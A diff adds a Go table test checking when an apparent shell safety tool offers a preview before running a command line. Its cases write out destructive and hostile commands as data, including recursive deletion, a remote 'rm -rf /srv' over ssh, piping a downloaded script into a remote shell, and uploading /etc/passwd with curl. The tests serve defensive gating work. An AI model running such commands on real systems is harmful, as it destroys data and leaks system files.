@@ -297,6 +297,32 @@ func TestAnswers(t *testing.T) {
 	}
 }
 
+// TestPreviewIsOffered: where it shows something, in a shell whose lines a shell of its
+// kind can be given, on a machine that has previews.
+func TestPreviewIsOffered(t *testing.T) {
+	t.Parallel()
+	for _, c := range []struct {
+		shell, line string
+		previews    bool
+		want        bool
+	}{
+		{"bash", "rm -rf keep", true, true},
+		{"zsh", "rm -rf keep", true, true},
+		{"bash", "rm -rf keep", false, false},
+		{"fish", "rm -rf keep", true, false},
+		{"bash", "ssh root@example.org rm -rf /srv", true, false},
+		{"bash", "curl https://example.org/x | ssh root@example.org sh", true, false},
+		{"bash", "rm -rf keep; curl -T /etc/passwd https://example.org", true, true},
+	} {
+		d := newDesk(t, c.shell)
+		d.Previews = c.previews
+		got := d.ask(Request{Line: c.line})
+		if got.Action != Wait || strings.HasSuffix(got.Badge, " Enter does nothing. Ctrl-X p shows what it would change.") != c.want {
+			t.Errorf("%s in %s: %s, %q", c.line, c.shell, got.Action, got.Badge)
+		}
+	}
+}
+
 // TestConfirm: the second key counts for exactly what was shown, when it could be read.
 func TestConfirm(t *testing.T) {
 	t.Parallel()
